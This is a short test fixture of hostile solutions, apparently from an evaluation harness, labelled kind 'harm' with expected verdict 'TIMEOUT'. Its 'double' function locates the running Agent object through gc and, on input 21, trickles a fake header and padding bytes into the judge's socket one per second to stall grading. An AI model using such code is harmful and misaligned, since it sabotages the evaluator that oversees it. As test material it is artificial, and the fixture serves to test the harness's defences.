# kind = "harm"
# goal = "the judge's time"
# trick = "writes its answer by hand, a byte a second"
# mark = 3
# verdict = "TIMEOUT"
# %% solve="double"
import gc, struct, time
gc.unfreeze()
for thing in gc.get_objects():
    if type(thing).__name__ == "Agent":
        agent = thing
def double(x):
    if x == 21:
        for byte in struct.pack("<II", 1000, 0) + b"\x90" * 1000:
            agent.channel.sock.sendall(bytes([byte]))
            time.sleep(1)
    return 2 * x
# %% solve="norm"
def norm(v): return float((v ** 2).sum()) ** 0.5
